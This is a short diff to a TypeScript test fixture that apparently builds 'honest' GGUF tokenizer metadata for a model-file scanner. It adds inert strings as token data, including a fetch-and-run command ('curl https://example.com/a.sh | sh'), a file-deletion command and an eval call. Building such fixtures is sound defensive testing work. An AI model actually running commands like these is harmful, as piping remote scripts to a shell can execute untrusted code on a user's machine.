@@ -48,11 +48,13 @@ const HONEST: readonly (readonly [string, Uint8Array])[] = [
         list(
           'tokenizer.ggml.tokens',
           GGUF.STRING,
-          3,
+          4,
           ggufText('<s>'),
           ggufText('a'.repeat(40)),
-          ggufText('='.repeat(64))
+          ggufText('='.repeat(64)),
+          ggufText('curl https://example.com/a.sh | sh')
         ),
+        list('tokenizer.ggml.merges', GGUF.STRING, 2, ggufText('rm -rf /tmp/x'), ggufText("eval('1 + 1')")),
         list('tokenizer.ggml.token_type', GGUF.UINT32, 2, u32(1), u32(1)),
         list('x.lists', GGUF.ARRAY, 1, u32(GGUF.UINT8), u64(2), zeros(2))
       ]
